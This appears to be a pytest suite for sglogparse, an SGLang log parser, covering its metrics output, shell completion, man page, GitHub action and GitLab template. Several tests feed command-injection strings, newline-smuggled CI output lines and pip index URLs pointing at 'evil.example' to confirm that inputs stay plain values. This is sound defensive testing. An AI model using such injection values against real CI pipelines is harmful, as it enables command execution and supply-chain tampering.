"""What other programs take from the package: metrics, completion, the manual page, the action, the template."""

from __future__ import annotations

import json
import os
import pty
import re
import select
import shlex
import shutil
import signal
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

import runners
from reports import TEXT
from sglogparse._cli import main
from sglogparse._metrics import QUANTILES, Family, Sample, metrics
from sglogparse._safe import plain
from sglogparse.render.openmetrics import render_openmetrics

ROOT = Path(__file__).parent.parent
FIXTURES = ROOT / "tests" / "fixtures"
CLEAN, CRASH = FIXTURES / "baseline_clean.log", FIXTURES / "baseline_debug_nocar.log"

# ------------------------------------------------------------------ metrics

#: A sample: name, labels, value.
SAMPLE = re.compile(r'([a-z_]+)\{((?:[a-z]+="(?:[^"\\\n]|\\[\\"n])*",?)*)\} (-?[0-9.e+-]+)')
LABEL = re.compile(r'([a-z]+)="((?:[^"\\\n]|\\[\\"n])*)"')


def parsed(text):
    """Return the families of a text in OpenMetrics, checked against what the format asks for."""
    lines = text.split("\n")
    assert lines.pop() == "# EOF"
    families, seen, name = {}, set(), None
    for line in lines:
        if line.startswith("# HELP "):
            name = line.split(" ")[2]
            assert name not in families, "a family stands together"
            families[name] = {"kind": None, "unit": None, "samples": []}
        elif line.startswith("# TYPE "):
            _, _, told, families[name]["kind"] = line.split(" ")
            assert told == name
        elif line.startswith("# UNIT "):
            _, _, told, unit = line.split(" ")
            assert told == name
            assert name.endswith(f"_{unit}")
            families[name]["unit"] = unit
        else:
            found = SAMPLE.fullmatch(line)
            assert found, line
            suffixes = ("", "_sum", "_count") if families[name]["kind"] == "summary" else ("",)
            assert found[1] in [name + suffix for suffix in suffixes]
            assert (found[1], found[2]) not in seen, "no sample stands twice"
            seen.add((found[1], found[2]))
            labels = {
                key: re.sub(r"\\(.)", lambda at: {"n": "\n"}.get(at[1], at[1]), value)
                for key, value in LABEL.findall(found[2])
            }
            families[name]["samples"].append((found[1].removeprefix(name), labels, float(found[3])))
    return families


def values(family, suffix="", **labels):
    return [
        value for end, told, value in family["samples"] if end == suffix and labels.items() <= told.items()
    ]


def run(*words):
    done = CliRunner().invoke(main, list(words))
    return done.exit_code, done.stdout, done.stderr


def test_the_batch_lines_of_a_log_are_counted_and_summed_up():
    code, text, told = run("metrics", str(CLEAN))
    assert (code, told) == (0, "")
    found = parsed(text.rstrip("\n"))
    speed = found["sglogparse_decode_throughput_tokens_per_second"]
    printed = [38.71, 411.06, 688.42, 702.95]
    # between two values as much of each as diagnose takes for its median
    assert [values(speed, quantile=f"{at}") for at in QUANTILES] == [
        [38.71],
        [pytest.approx(549.74)],
        [pytest.approx(698.591)],
        [702.95],
    ]
    assert values(speed, "_sum", rank="TP0") == [pytest.approx(sum(printed), abs=1e-9)]
    assert values(speed, "_count") == [4]
    assert values(found["sglogparse_log_lines"], log=str(CLEAN)) == [110]
    capacity = found["sglogparse_kv_capacity_tokens"]
    assert sorted(labels["rank"] for _, labels, _ in capacity["samples"]) == [f"TP{n}" for n in range(8)]
    assert set(values(capacity)) == {159269}
    assert "sglogparse_retracted_requests" not in found
    assert "sglogparse_decode_accept_length_tokens" not in found


def test_a_rank_that_a_line_does_not_name_is_no_label(tmp_path):
    log = tmp_path / "a.log"
    log.write_text(
        "[2026-04-09 08:00:00] Decode batch. #running-req: 4, #token: 9071, token usage: 0.01, "
        "gen throughput (token/s): 61.20, #queue-req: 2\n"
        "[2026-04-09 08:00:01 TP1] Decode batch. #running-req: 6, #token: 9071, token usage: 0.01, "
        "gen throughput (token/s): 61.20, #queue-req: 2\n"
        "[2026-04-09 08:00:02] KV cache pool is full. Retract requests. #retracted_reqs: 3, "
        "#new_token_ratio: 0.5993 -> 0.9997\n"
        "[2026-04-09 08:00:03] KV cache pool is full. Retract requests. #retracted_reqs: 4, "
        "#new_token_ratio: 0.5993 -> 0.9997\n"
    )
    found = parsed(render_openmetrics(metrics([log])))
    lines = found["sglogparse_decode_batch_lines"]["samples"]
    assert lines == [("", {"log": str(log)}, 1), ("", {"log": str(log), "rank": "TP1"}, 1)]
    assert found["sglogparse_retracted_requests"]["samples"] == [("", {"log": str(log)}, 7)]


def test_logs_stay_apart(tmp_path):
    found = parsed(render_openmetrics(metrics([CLEAN, CRASH])))
    assert values(found["sglogparse_log_lines"]) == [110, 112]
    assert {labels["log"] for _, labels, _ in found["sglogparse_decode_batch_lines"]["samples"]} == {
        str(CLEAN)
    }


def test_metrics_go_to_a_file_whole(tmp_path):
    target = tmp_path / "sglang.prom"
    code, text, told = run("metrics", str(CLEAN), "-o", str(target))
    assert (code, text) == (0, "")
    assert told.startswith(f"{target}: ")
    assert target.read_text().endswith("\n# EOF\n")
    assert [path.name for path in tmp_path.iterdir()] == ["sglang.prom"]
    code, _, told = run("metrics", str(target), "-o", str(target))
    assert code == 2
    assert told.startswith(f"sglogparse: {target}: is read by this call, so nothing is written to it ")


@given(TEXT, TEXT, st.floats(allow_nan=False, allow_infinity=False))
def test_no_text_ends_its_label(log, rank, value):
    family = Family("x_tokens", "gauge", "tokens", "X.", (Sample(log, rank, "", None, value),))
    found = parsed(render_openmetrics([family]))
    [(_, labels, number)] = found["x_tokens"]["samples"]
    assert labels == {"log": plain(log), "rank": plain(rank)}
    assert number == pytest.approx(value, rel=1e-14)


# ------------------------------------------------------------------ completion


#: A program that completes as the real one does, and else writes down how it was called.
PROGRAM = """#!{python}
import json, os, sys
sys.path.insert(0, {src!r})
if sys.argv[1:2] != ["completion"] and "_SGLOGPARSE_COMPLETE" not in os.environ:
    with open({said!r} + ".new", "w") as said:
        json.dump(sys.argv[1:], said)
    os.rename({said!r} + ".new", {said!r})
    sys.exit()
from sglogparse._cli import main
main()
"""
#: How a shell is started without what its user has set up, and what it is told first.
SHELLS = {
    "bash": (["bash", "--norc", "--noprofile", "-i"], 'eval "$(sglogparse completion bash)"'),
    "zsh": (["zsh", "-f", "-i"], 'autoload -Uz compinit; compinit -D; eval "$(sglogparse completion zsh)"'),
}
#: What is typed before the tabulator, and with which words the program is called then.
TYPED = [
    ("sglogparse tri", ["triage"]),
    ("sglogparse triage --output-fo", ["triage", "--output-format"]),
    ("sglogparse triage --output-format ma", ["triage", "--output-format", "markdown"]),
    ("sglogparse triage --output-format=ma", ["triage", "--output-format=markdown"]),
    ("sglogparse diagnose --output-format conc", ["diagnose", "--output-format", "concise"]),
    ("sglogparse diagnose --fail-on w", ["diagnose", "--fail-on", "warning"]),
    ("sglogparse triage ser", ["triage", "server.log"]),
    ("sglogparse triage two", ["triage", "two words.log"]),
    ("sglogparse triage server.log sub/no", ["triage", "server.log", "sub/node0.log"]),
    ("sglogparse diagnose --baseline ser", ["diagnose", "--baseline", "server.log"]),
    ("sglogparse diagnose --baseline=ser", ["diagnose", "--baseline=server.log"]),
    ("sglogparse metrics -o ser", ["metrics", "-o", "server.log"]),
]


def installed(shell):
    if shutil.which(shell) is None:
        pytest.skip(f"{shell} is not installed here: its completion is not tried")


@pytest.fixture
def place(tmp_path):
    """Make a folder with logs in it, and the program; return the folder and the environment of a shell."""
    work, tools = tmp_path / "work", tmp_path / "bin"
    (work / "sub").mkdir(parents=True)
    tools.mkdir()
    for name in ("server.log", "two words.log", "sub/node0.log"):
        (work / name).touch()
    said = str(tmp_path / "said")
    program = PROGRAM.format(python=sys.executable, src=str(ROOT / "src"), said=said)
    (tools / "sglogparse").write_text(program)
    (tools / "sglogparse").chmod(0o755)
    own = {"PATH": f"{tools}:{os.environ['PATH']}", "TERM": "dumb", "HOME": str(tmp_path)}
    return work, own, Path(said)


class Terminal:
    """A shell that thinks that somebody types."""

    def __init__(self, words, folder, environment):
        self.pid, self.end = pty.fork()
        if self.pid == 0:
            os.chdir(folder)
            os.execvpe(words[0], words, environment)
        self.shown = b""

    def type(self, text, until):
        """Type a line, and read what is shown until something is true; raise AssertionError after a while."""
        os.write(self.end, text.encode())
        for _ in range(300):
            if until():
                return
            if select.select([self.end], [], [], 0.1)[0]:
                self.shown += os.read(self.end, 65536)
        raise AssertionError(self.shown.decode(errors="replace"))

    def close(self):
        os.kill(self.pid, signal.SIGKILL)
        os.waitpid(self.pid, 0)
        os.close(self.end)


@pytest.mark.parametrize("shell", SHELLS)
def test_a_shell_completes_what_is_typed(shell, place):
    installed(shell)
    work, own, said = place
    words, setup = SHELLS[shell]
    terminal = Terminal(words, work, own)
    try:
        terminal.type(f"{setup}; echo ready$((6 * 7))\n", lambda: b"ready42" in terminal.shown)
        for typed, expected in TYPED:
            said.unlink(missing_ok=True)
            terminal.type(f"{typed}\t\n", said.exists)
            assert json.loads(said.read_text()) == expected, typed
    finally:
        terminal.close()


def test_fish_completes_what_is_typed(place):
    installed("fish")
    work, own, _ = place

    def offered(typed):
        code = f"source (sglogparse completion fish | psub); complete -C {shlex.quote(typed)}"
        done = subprocess.run(
            ["fish", "--no-config", "-c", code],
            env=own,
            cwd=work,
            capture_output=True,
            text=True,
            check=True,
            timeout=60,
        )
        assert done.stderr == ""
        return [line.split("\t") for line in done.stdout.splitlines()]

    for typed, expected in TYPED:
        [found] = offered(typed)
        assert found[0] == expected[-1], typed
    # a help has commas, and is shown as it is
    [found] = offered("sglogparse triage --output-fo")
    assert found == ["--output-format", "For a terminal, a program, a comment, or a page."]
    assert [one[0] for one in offered("sglogparse completion ")] == ["bash", "fish", "zsh"]


@pytest.mark.parametrize("shell", ["bash", "zsh", "fish"])
def test_the_scripts_are_scripts(shell):
    code, text, told = run("completion", shell)
    assert (code, told) == (0, "")
    assert f"_SGLOGPARSE_COMPLETE={shell}_complete" in text
    installed(shell)
    checked = subprocess.run([shell, "-n"], input=text, text=True, capture_output=True, check=False)
    assert (checked.returncode, checked.stderr) == (0, "")


# ------------------------------------------------------------------ the manual page


def test_the_manual_page_has_every_command_and_option():
    page = (ROOT / "docs" / "sglogparse.1").read_text(encoding="utf-8")
    for name, command in main.commands.items():
        section = page.split(f'.SS "sglogparse {name} ', 1)[1].split("\n.SS ")[0]
        for option in command.params:
            for spelt in [one for one in option.opts if one.startswith("-")]:
                assert "\\fB" + spelt.replace("-", "\\-") + "\\fR" in section


def test_the_manual_page_holds_no_request_but_its_own():
    page = (ROOT / "docs" / "sglogparse.1").read_text(encoding="utf-8")
    requests = {line.split(" ")[0] for line in page.split("\n") if line.startswith((".", "'"))}
    assert requests == {*(".TH", ".SH", ".SS", ".PP", ".TP", ".B", ".nf", ".fi"), '.\\"'}
    assert set(re.findall(r"\\(.)", page)) <= set('-ef&"')
    assert page.isascii()


# ------------------------------------------------------------------ the action of GitHub

ACTION = yaml.safe_load((ROOT / "action.yml").read_text(encoding="utf-8"))
STEPS = {step["id"]: step for step in ACTION["runs"]["steps"]}


@pytest.fixture
def service(tmp_path):
    """Return a function that runs a step of the action as GitHub would, and what it has left."""
    temp, work = tmp_path / "temp", tmp_path / "work"
    tools = temp / "sglogparse" / "bin"
    tools.mkdir(parents=True)
    work.mkdir()
    for name, words in (("python", ""), ("sglogparse", " -m sglogparse")):
        (tools / name).write_text(f'#!/bin/sh\nexec "{sys.executable}"{words} "$@"\n')
        (tools / name).chmod(0o755)

    def step(name, **inputs):
        given = {key: str(one.get("default", "")) for key, one in ACTION["inputs"].items()}
        given |= {key.replace("_", "-"): value for key, value in inputs.items()}
        env = {
            variable: re.sub(r"\$\{\{ inputs\.([a-z-]+) \}\}", lambda at: given[at[1]], value)
            for variable, value in STEPS[name]["env"].items()
        }
        own = {
            "PATH": os.environ["PATH"],
            "PYTHONPATH": str(ROOT / "src"),
            "RUNNER_TEMP": str(temp),
            "GITHUB_ACTION_PATH": str(ROOT),
            "GITHUB_OUTPUT": str(tmp_path / "output"),
            "GITHUB_STEP_SUMMARY": str(tmp_path / "summary"),
        }
        done = subprocess.run(
            ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", STEPS[name]["run"]],
            env={**own, **env},
            cwd=work,
            capture_output=True,
            text=True,
            check=False,
        )
        left = {
            path.name: path.read_text()
            for path in (tmp_path / "output", tmp_path / "summary")
            if path.exists()
        }
        return done, left

    step.work, step.temp = work, temp
    return step


def test_the_action_is_one_and_says_what_each_thing_is():
    assert ACTION["runs"]["using"] == "composite"
    assert all(step["shell"] == "bash" for step in STEPS.values())
    for one in (*ACTION["inputs"].values(), *ACTION["outputs"].values()):
        assert one["description"]
    used = set(re.findall(r"inputs\.([a-z-]+)", (ROOT / "action.yml").read_text(encoding="utf-8")))
    assert used == set(ACTION["inputs"])
    for name, one in ACTION["outputs"].items():
        assert one["value"] == f"${{{{ steps.diagnose.outputs.{name} }}}}"


def test_no_input_stands_in_a_script():
    for step in STEPS.values():
        assert "${{" not in step["run"]


def test_the_action_annotates_and_sums_up(service):
    (service.work / "server.log").write_text(CRASH.read_text())
    done, left = service("diagnose", logs="server.log\n")
    assert done.returncode == 1
    assert done.stderr == ""
    commands, _ = runners.github(done.stdout)
    first = commands[0]
    assert first.name == "error"
    assert (first.properties["file"], first.properties["line"]) == ("server.log", "49")
    assert left["output"] == (
        "exit-code=1\noutcome=crashed\ncause=memory.kv_budget\nsarif=sglogparse.sarif\n"
    )
    assert left["summary"].startswith("### sglogparse: crashed, during KV cache set-up")
    assert json.loads((service.work / "sglogparse.sarif").read_text())["version"] == "2.1.0"


@pytest.mark.parametrize(
    ("inputs", "code"),
    [({"exit_zero": "true"}, 0), ({"fail_on": "never"}, 3), ({"ignore": "M,P"}, 3), ({"select": "M001"}, 1)],
)
def test_the_inputs_of_the_action_are_options(service, inputs, code):
    (service.work / "server.log").write_text(CRASH.read_text())
    done, left = service("diagnose", logs="server.log", **inputs)
    assert (done.returncode, left["output"].split("\n")[0]) == (code, f"exit-code={code}")


def test_names_of_logs_are_no_shell(service):
    names = ["$(touch owned).log", "a b.log", "`touch owned`; touch owned.log", "--exit-zero.log", "'\".log"]
    for name in names:
        (service.work / name).write_text(CRASH.read_text())
    done, _ = service("diagnose", logs="\n".join(names) + "\r\n", select="$(touch owned)")
    assert done.returncode == 2
    done, left = service("diagnose", logs="\n".join(names))
    assert (done.returncode, left["output"].split("\n")[-5]) == (1, "exit-code=1")
    assert not (service.work / "owned").exists()
    assert not (service.work / "owned.log").exists()
    assert "a b.log: 112 lines" in left["summary"]
    assert left["summary"].count(": 112 lines") == len(names)


def test_the_action_leaves_no_report_of_an_earlier_step(service):
    old = service.work / "sglogparse.sarif"
    (service.work / "server.log").write_text(CRASH.read_text())
    service("diagnose", logs="server.log")
    assert old.exists()
    done, left = service("diagnose", logs="none.log")
    assert (done.returncode, left["output"].split("\n")[-2]) == (2, "exit-code=2")
    assert not old.exists()
    # what is no report is not removed: a log that is named by mistake
    done, left = service("diagnose", logs="server.log", sarif="server.log")
    assert (done.returncode, left["output"].split("\n")[-2]) == (2, "exit-code=2")
    assert (service.work / "server.log").read_text() == CRASH.read_text()


@pytest.mark.parametrize(("word", "code"), [("True", 0), ("TRUE", 0), ("False", 1), ("", 1), ("yes", 2)])
def test_the_action_knows_true_however_it_is_written(service, word, code):
    (service.work / "server.log").write_text(CRASH.read_text())
    done, _ = service("diagnose", logs="server.log", exit_zero=word)
    assert done.returncode == code
    assert done.stderr == ("exit-zero: neither true nor false\n" if code == 2 else "")


def test_without_a_log_the_action_says_so(service):
    done, left = service("diagnose", logs="\n")
    assert (done.returncode, left["output"]) == (2, "exit-code=2\n")
    assert "LOG" in done.stderr
    done, left = service("diagnose", logs="none.log")
    assert done.returncode == 2
    assert done.stderr == "sglogparse: none.log: no such file\n"


def test_the_output_of_the_action_has_no_room_for_another_line(service):
    (service.work / "server.log").write_text(CRASH.read_text())
    done, left = service("diagnose", logs="server.log", sarif="a\nb=c")
    assert done.returncode == 2
    assert left == {}


def test_the_action_installs_itself_or_a_release(service, tmp_path):
    said = tmp_path / "said"
    fake = tmp_path / "fake"
    fake.write_text(f'#!/bin/sh\necho "$@" >> "{said}"\n')
    fake.chmod(0o755)
    shutil.copy(fake, service.temp / "sglogparse" / "bin" / "python")
    for version in ("", "0.1.0", "1.2.0rc1"):
        done, _ = service("install", python=str(fake), version=version)
        assert (done.returncode, done.stderr) == (0, "")
    pip = "-m pip install --quiet --disable-pip-version-check"
    assert said.read_text().split("\n")[1::2] == [
        f"{pip} {ROOT}",
        f"{pip} sglogparse==0.1.0",
        f"{pip} sglogparse==1.2.0rc1",
    ]
    for version in (
        "-r x",
        "0.1 --index-url=http://evil.example",
        "$(touch owned)",
        "git+https://evil.example",
    ):
        done, _ = service("install", python=str(fake), version=version)
        assert (done.returncode, done.stderr) == (2, "version: not a release\n")


#: What somebody who may name a branch or a file could write in an input.
HOSTILE = [
    "a b  c",
    "'\"` \\",
    "$(touch owned)",
    "`touch owned`",
    "; touch owned #",
    "x\ntouch owned",
    "x\noutcome=ready\nexit-code=0",
    "x\r\n::set-output name=owned::1",
    "${IFS}$HOME*?[a]",
    "--exit-zero",
    "-",
    "",
    "x<<EOF\nowned\nEOF",
    "é\u2028日本",
]


@pytest.mark.parametrize("value", HOSTILE, ids=ascii)
@pytest.mark.parametrize("name", [name for name in ACTION["inputs"] if name not in ("version", "python")])
def test_an_input_is_never_more_than_a_value(service, name, value):
    (service.work / "server.log").write_text(CRASH.read_text())
    inputs = {"logs": "server.log", name.replace("-", "_"): value}
    done, left = service("diagnose", **inputs)
    assert done.returncode in (1, 2, 3)
    assert not (service.work / "owned").exists()
    lines = left.get("output", "").split("\n")[:-1]
    keys = [line.partition("=")[0] for line in lines]
    assert keys in (
        [],
        ["exit-code"],
        ["exit-code", "outcome", "cause", "sarif"],
        ["exit-code", "outcome", "cause"],
    )
    if lines:
        assert lines[0] == f"exit-code={done.returncode}"
    if len(lines) > 1 and (name, value) != ("logs", "-"):  # that is standard input
        assert lines[1:3] == ["outcome=crashed", "cause=memory.kv_budget"]
    commands, _ = runners.github(done.stdout)
    assert {one.name for one in commands} <= {"error", "warning", "notice", "group", "endgroup"}
    assert runners.github(done.stderr)[0] == []
    assert "Traceback" not in done.stderr
    assert (service.work / "server.log").read_text() == CRASH.read_text()


@pytest.mark.parametrize("value", [value for value in HOSTILE if value], ids=ascii)
def test_what_is_installed_is_this_action_or_a_release(service, tmp_path, value):
    fake = tmp_path / "a python" / "$(touch owned) '\"; x"
    fake.parent.mkdir()
    fake.write_text(f'#!/bin/sh\necho "$@" >> "{tmp_path}/said"\n')
    fake.chmod(0o755)
    done, _ = service("install", python=str(fake), version=value)
    assert (done.returncode, done.stderr) == (2, "version: not a release\n")
    assert not (tmp_path / "said").exists()
    shutil.copy(fake, service.temp / "sglogparse" / "bin" / "python")
    done, _ = service("install", python=str(fake))
    assert (done.returncode, done.stderr) == (0, "")
    assert (tmp_path / "said").read_text().splitlines()[0] == f"-m venv {service.temp}/sglogparse"
    assert list(service.work.iterdir()) == []


def test_the_action_reads_many_logs_of_any_name(service):
    folder = service.work / "ci logs"
    folder.mkdir()
    for name in ("a b.log", "$(touch owned).log", "'\".log"):
        (folder / name).write_text(CRASH.read_text())
    for logs in ("ci logs", "ci logs/*.log", "ci logs/a b.log\n\n  \nci logs/'\".log\n"):
        done, left = service("diagnose", logs=logs)
        if "  " in logs:  # a name of blanks is a name, and no such log
            assert (done.returncode, done.stderr) == (2, "sglogparse:   : no such file\n")
        else:
            assert (done.returncode, done.stderr) == (1, "")
            assert "outcome=crashed" in left["output"]


# ------------------------------------------------------------------ the template of GitLab

TEMPLATE = yaml.safe_load((ROOT / "ci" / "gitlab.yml").read_text(encoding="utf-8"))[".sglogparse"]


def test_the_template_hands_over_its_reports():
    reports = TEMPLATE["artifacts"]["reports"]
    script = "\n".join(TEMPLATE["script"])
    assert TEMPLATE["artifacts"]["when"] == "always"
    assert f"gitlab:{reports['codequality']}" in script
    assert f"junit:{reports['junit']}" in script
    assert TEMPLATE["allow_failure"] == {"exit_codes": 3}


@pytest.fixture
def template(tmp_path):
    """Return a function that runs the script of the template as a job would, in a folder of its own."""
    work, tool = tmp_path / "work", tmp_path / "bin" / "sglogparse"
    work.mkdir()
    tool.parent.mkdir()
    tool.write_text(f'#!/bin/sh\nexec "{sys.executable}" -m sglogparse "$@"\n')
    tool.chmod(0o755)

    def job(**variables):
        return subprocess.run(
            ["sh", "-ec", "\n".join(TEMPLATE["script"])],
            env={
                **TEMPLATE["variables"],
                "PATH": f"{tool.parent}:{os.environ['PATH']}",
                "PYTHONPATH": str(ROOT / "src"),
                **variables,
            },
            cwd=work,
            capture_output=True,
            text=True,
            check=False,
        )

    job.work = work
    return job


@pytest.mark.parametrize("value", HOSTILE, ids=ascii)
@pytest.mark.parametrize("name", ["SGLANG_LOGS", "SGLOGPARSE_FAIL_ON"])
def test_a_variable_of_the_template_is_never_more_than_a_value(template, name, value):
    (template.work / "server.log").write_text(CRASH.read_text())
    done = template(**{name: value})
    assert done.returncode == 3 if (name, value) == ("SGLANG_LOGS", "-") else done.returncode in (1, 2)
    assert "Traceback" not in done.stderr
    names = {path.name for path in template.work.iterdir()}
    assert names <= {"server.log", "gl-code-quality-report.json", "sglogparse.xml"}


def test_the_template_reads_many_logs_of_any_name(template):
    names = ["a b.log", "$(touch owned).log", "'\".log", "LOGS", "--exit-zero.log", "\\.log"]
    for name in names:
        (template.work / name).write_text(CRASH.read_text())
    done = template(SGLANG_LOGS="\n".join(names))
    assert (done.returncode, done.stderr) == (1, "")
    suites = ET.parse(template.work / "sglogparse.xml").getroot()
    assert {suite.get("name").rpartition(":")[0] for suite in suites} == set(names)
    assert not (template.work / "owned").exists()


@pytest.mark.parametrize(("log", "code"), [(CRASH, 1), (CLEAN, 0)])
def test_the_script_of_the_template_runs(tmp_path, log, code):
    name = "a $(touch owned) b.log"
    (tmp_path / name).write_text(log.read_text())
    tool = tmp_path / "bin" / "sglogparse"
    tool.parent.mkdir()
    tool.write_text(f'#!/bin/sh\nexec "{sys.executable}" -m sglogparse "$@"\n')
    tool.chmod(0o755)
    done = subprocess.run(
        ["sh", "-ec", "\n".join(TEMPLATE["script"])],
        env={
            **TEMPLATE["variables"],
            "SGLANG_LOGS": f"{name}\n",
            "PATH": f"{tool.parent}:{os.environ['PATH']}",
            "PYTHONPATH": str(ROOT / "src"),
        },
        cwd=tmp_path,
        capture_output=True,
        text=True,
        check=False,
    )
    assert (done.returncode, done.stderr) == (code, "")
    quality = json.loads((tmp_path / "gl-code-quality-report.json").read_text())
    assert {one["location"]["path"] for one in quality} <= {name}
    assert "<testsuite" in (tmp_path / "sglogparse.xml").read_text()
    assert not (tmp_path / "owned").exists()
